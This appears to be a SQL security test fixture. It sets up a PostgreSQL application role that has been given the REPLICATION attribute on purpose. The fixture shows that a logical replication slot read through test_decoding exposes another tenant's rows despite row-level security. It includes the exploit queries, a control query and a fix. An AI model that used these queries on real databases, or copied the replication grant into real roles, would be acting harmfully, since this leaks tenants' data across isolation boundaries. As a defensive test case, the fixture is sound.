-- What: REPLICATION on the application's login, left from a trial of change data capture.
-- Class: role_replication
-- Object: replication_web
-- Exploit: A replication slot delivers the changes of all tenants; no policy binds the write-ahead log.
-- App: replication_web
-- Roles: replication_web
-- @superuser
create role replication_web login replication;
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to replication_web;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-row');
-- @fix
alter role replication_web noreplication;
-- @control
select from items where tenant_id = :'A';
-- @exploit
select from pg_create_logical_replication_slot('role_replication', 'test_decoding', true);
-- @tenant_b
insert into items (tenant_id, body) values (:'B', 'B-secret');
-- @exploit
select data from pg_logical_slot_get_changes('role_replication', null, null) where data like '%B-secret%';
